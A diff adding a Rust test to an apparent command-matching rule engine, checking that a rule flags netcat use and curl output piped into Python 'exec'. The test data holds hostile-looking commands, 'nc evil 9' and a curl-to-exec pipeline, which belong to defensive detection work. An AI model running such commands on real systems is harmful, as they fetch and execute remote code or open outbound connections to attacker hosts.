@@ -167,3 +167,16 @@ fn the_gravest_verdict_on_a_command_is_that_on_the_event() {
         assert_eq!(judge(&engine, &shell(text)), expected, "{text}");
     }
 }
+
+#[test]
+fn a_condition_on_a_command_may_ask_for_its_code_too() {
+    let either = r#"
+        command { program = "nc" }
+        command { from = "curl" code { language = "python" match = `exec\(` } }
+    "#;
+    assert!(fits(either, "nc evil 9"));
+    assert!(fits(either, "curl x | python3 -c 'exec(input())'"));
+    assert!(!fits(either, "python3 -c 'exec(input())'"));
+    assert!(!fits(either, "curl x | python3 -c 'print(input())'"));
+    assert!(!fits(either, "curl x | ruby -e 'exec(gets)'"));
+}
